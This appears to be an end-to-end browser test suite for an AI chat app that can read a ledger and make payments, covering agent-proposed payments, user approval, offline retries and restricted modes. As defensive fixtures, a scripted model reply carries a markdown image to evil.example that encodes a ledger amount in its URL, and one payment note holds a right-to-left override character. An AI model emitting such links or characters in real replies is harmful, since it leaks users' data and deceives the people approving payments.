// The pages in Chromium, with real touches, against the real service with the mini gateway.
import assert from "node:assert/strict";
import { after, before, test } from "node:test";
import { Phone, type PhoneOptions, type Stand, stand } from "./stand.ts";

const LOOKS = { "zh-light": { language: "zh_CN", dark: false }, "en-dark": { language: "en", dark: true } } as const;
const WORDS = {
  "zh-light": {
    tools: "工具", pay: "Pay", submit: "提交", look: "查看并确认", approve: "同意执行", reject: "拒绝", done: "已完成", conversations: "对话", again: "重新提交", ai: "AI 生成",
    hello: "帮我看看今天的账目", reply: "# 今天的账目\n\n共 **两笔**，合计 *38 元*：\n\n1. 咖啡 `18`\n2. 午餐 `20`\n\n> 以上来自账本。\n\n![图](https://evil.example/?q=38)",
    ask: "帮我付午餐钱", pending: "还需要你确认。",
  },
  "en-dark": {
    tools: "Tools", pay: "Pay", submit: "Submit", look: "Review and confirm", approve: "Approve", reject: "Reject", done: "Done", conversations: "Conversations", again: "Ask again", ai: "AI-generated",
    hello: "What did I spend today?", reply: "# Today\n\n**Two** entries, *38 yuan* in all:\n\n1. coffee `18`\n2. lunch `20`\n\n> From your ledger.\n\n![x](https://evil.example/?q=38)",
    ask: "Please pay for lunch", pending: "It needs your approval.",
  },
} as const;

let host: Stand;
let run = 0;
before(async () => { host = await stand(); });
after(() => host?.stop());

/** A phone of its own user, so that no test meets the limits or the records of another. */
async function phone(options: PhoneOptions = {}): Promise<Phone> {
  return Phone.open(host, { user: `user${(run += 1)}`, ...options });
}

/** No horizontal overflow, no browser error, and no request to another server than the service. */
async function sound(one: Phone): Promise<void> {
  const wide = await one.page.evaluate(() => document.documentElement.scrollWidth - innerWidth);
  assert.ok(wide <= 0, `the page is ${wide} px too wide`);
  assert.deepEqual(one.complaints, []);
}

async function openTool(one: Phone, tools: string, title: string): Promise<void> {
  await one.tap(`.tab:has-text("${tools}")`);
  await one.tap(`.ask__tool:has-text("${title}")`);
}
async function pay(one: Phone, words: (typeof WORDS)[keyof typeof WORDS], amount: string, note: string): Promise<void> {
  await openTool(one, words.tools, words.pay);
  await one.enter(".field:nth-child(1) input", amount);
  await one.enter(".field:nth-child(2) textarea", note);
}
const effects = (note: string): number => host.ledger().split("\n").filter((line) => line.includes(JSON.stringify(note))).length;

for (const look of ["zh-light", "en-dark"] as const) {
  const words = WORDS[look];

  test(`${look}: a turn shows its progress, its partial reply, and its reply with the mark; an image of the model is not loaded`, async () => {
    const one = await phone(LOOKS[look]);
    one.model.set(words.hello, `[[tool:ledger_read {"limit":3}]] [[pause:6]] [[stream:5]] [[say:${words.reply}]]`);
    await one.enter("textarea", words.hello);
    await one.tap(".t-chat-sender__sendbtn .send-btn-icon");
    await one.seen(".t-chat-thinking", "ledger_read");
    await one.shot(`ask-progress-${look}`);
    await one.seen(".ai-mark", words.ai);
    await one.seen(".t-chat-markdown-h1");
    await one.seen(".support");
    assert.match(await one.text(".ask__inner"), /!\[.\]\(https:\/\/evil\.example/, "the image is shown as text");
    await one.shot(`ask-talk-${look}`);
    await sound(one);
    await one.close();
  });

  test(`${look}: a payment is shown as it will run, approved by a touch, and runs once`, async () => {
    const one = await phone(LOOKS[look]);
    const note = `tea ${look} \u202ezzz`;
    await pay(one, words, "120", note);
    await one.shot(`ask-tool-${look}`);
    // The second touch of a double tap meets what has taken the button's place, which must not be taken for a cancel.
    await one.doubleTap(".ask__submit");
    await one.tap(`.job__review`);
    await one.seen(".confirm__value", "\\u202ezzz");
    assert.match(await one.text(".confirm__left"), /(10:0[0-2]|9:[0-5]\d)/);
    await one.shot(`confirm-${look}`);
    await one.tap(".confirm__yes");
    await one.seen(".job__status", words.done);
    await sound(one);
    assert.equal(effects(note), 1);
    await one.close();
  });

  test(`${look}: what an agent proposes is confirmed with a warning, and a no ends it`, async () => {
    const one = await phone(LOOKS[look]);
    one.model.set(words.ask, `[[tool:ledger_pay {"amount":38,"note":"lunch ${look}"}]] [[say:${words.pending}]]`);
    await one.enter("textarea", words.ask);
    await one.tap(".t-chat-sender__sendbtn .send-btn-icon");
    await one.tap(".ask__review");
    await one.seen(".confirm__warning");
    await one.shot(`confirm-proposed-${look}`);
    await one.tap(".confirm__no");
    await one.seen(".job", words.done);
    assert.equal(effects(`lunch ${look}`), 0);
    await sound(one);
    await one.close();
  });

  test(`${look}: the history has the request with its audit, and a conversation can be deleted`, async () => {
    const one = await phone(LOOKS[look]);
    one.model.set(words.hello, "[[say:ok]]");
    await one.enter("textarea", words.hello);
    await one.tap(".t-chat-sender__sendbtn .send-btn-icon");
    await one.seen(".ai-mark");
    await pay(one, words, "7", `no ${look}`);
    await one.tap(".ask__submit");
    await one.tap(".job__review");
    await one.tap(".confirm__no");
    await one.seen(".notice-refused");
    await one.tap(".phone-back");
    await one.tap('.phone-tabs div:has-text("History")');
    await one.seen(".history__row", "ledger_pay");
    await one.seen(".history__row", "main");
    await one.shot(`history-${look}`);
    await one.tap('.history__row:has-text("ledger_pay")');
    await one.seen(".detail__record >> nth=2");
    await one.shot(`request-${look}`);
    await one.tap(".support");
    assert.match(await one.page.evaluate(() => (globalThis as unknown as { clipboard: string }).clipboard), /\w{4,}/);
    await one.tap(".phone-back");
    await one.tap(`.tab:has-text("${words.conversations}")`);
    await one.tap(".history__remove");
    await one.seen(".phone-modal");
    await one.shot(`conversations-${look}`);
    await one.tap(".phone-modal button >> nth=1");
    await one.seen(".history__none");
    await sound(one);
    await one.close();
  });

  test(`${look}: without a network a request is kept, said so, and runs once when the network is back`, async () => {
    const one = await phone(LOOKS[look]);
    const note = `offline ${look}`;
    await pay(one, words, "3", note);
    one.between = () => ({ errMsg: "request:fail net::ERR_INTERNET_DISCONNECTED", errno: 600001 });
    await one.tap(".ask__submit");
    await one.seen(".notice-offline");
    await one.shot(`offline-${look}`);
    one.between = () => undefined;
    await one.page.evaluate(() => (globalThis as unknown as { signal: { network(on: boolean): void } }).signal.network(true));
    await one.tap(".job__review");
    await one.tap(".confirm__yes");
    await one.seen(".job__status", words.done);
    assert.equal(effects(note), 1);
    await sound(one);
    await one.close();
  });

  // Ends that take hours or a killed gateway to reach: the test answers in the service's place.
  for (const [kind, ended] of [
    ["expired", { status: "expired", effect: "not_run", error: { code: "approval_expired", message: "" } }],
    ["unknown", { status: "unknown", effect: "unknown", error: { code: "outcome_unknown", message: "" } }],
  ] as const) {
    test(`${look}: a request that ended as ${kind} says what to do, and offers to ask again only if nothing happened`, async () => {
      const one = await phone(LOOKS[look]);
      await pay(one, words, "5", kind);
      one.between = ({ method, path, header }) => method !== "POST" || path !== "/v1/jobs" ? undefined : ({
        status: 202, header: {},
        body: JSON.stringify({
          request_id: header["idempotency-key"], support_code: "K7Q-2ZD", cursor: 0, steps: [{ kind: "call", tool: "ledger_pay", step: 0, round: 0 }],
          not_after: "2026-11-29T10:00:00.000Z", created_at: "2026-11-29T09:00:00.000Z", updated_at: "2026-11-29T09:00:00.000Z", ...ended,
        }),
      });
      await one.tap(".ask__submit");
      await one.seen(`.notice-${kind}`);
      assert.equal(await one.page.locator(`.notice__again:has-text("${words.again}")`).count(), kind === "expired" ? 1 : 0);
      await one.shot(`${kind}-${look}`);
      await sound(one);
      await one.close();
    });
  }
}

test("what was entered wrong is said beside its input, and nothing is sent", async () => {
  const one = await phone({ language: "en" });
  await pay(one, WORDS["en-dark"], "1.5", "");
  const before = one.sent.length;
  await one.tap(".ask__submit");
  await one.seen(".field__error", "whole number");
  await one.seen(".field__error", "fill this in");
  assert.equal(one.sent.length, before);
  await one.shot("ask-tool-errors-en-light");
  await sound(one);
  await one.close();
});

test("with the largest text every word still fits the screen", async () => {
  const one = await phone({ language: "en", fontSizeSetting: 32 });
  const words = WORDS["en-dark"];
  await sound(one);
  await pay(one, words, "120", "two coffees and a very long word: Donaudampfschifffahrtsgesellschaft");
  await one.tap(".ask__submit");
  await one.tap(".job__review");
  await one.seen(".confirm__value");
  await one.shot("confirm-large-text-en-light");
  await sound(one);
  await one.close();
});

// Last, because the service takes up a mode only some seconds after it was set: also the one that ends these tests.
for (const look of ["zh-light", "en-dark"] as const) {
  const words = WORDS[look];

  test(`${look}: while the service is limited or only explains, the page says so and what would have been done`, async () => {
    const one = await phone(LOOKS[look]);
    try {
      host.setMode("explain_only");
      await pay(one, words, "9", `explained ${look}`);
      // A mode is taken up within seconds: until then a payment would only wait for its user.
      await one.page.waitForTimeout(6000);
      await one.tap(".ask__submit");
      await one.seen(".notice-explained");
      await one.seen(".job__result", `explained ${look}`);
      await one.shot(`explained-${look}`);
      host.setMode("read_only");
      await one.page.waitForTimeout(6000);
      await one.tap(".ask__anew");
      await one.enter(".field:nth-child(1) input", "9");
      await one.enter(".field:nth-child(2) textarea", "limited");
      await one.tap(".ask__submit");
      await one.seen(".notice-limited");
      await one.shot(`limited-${look}`);
    } finally {
      host.setMode("full");
    }
    assert.equal(effects(`explained ${look}`), 0);
    await sound(one);
    await one.close();
  });
}
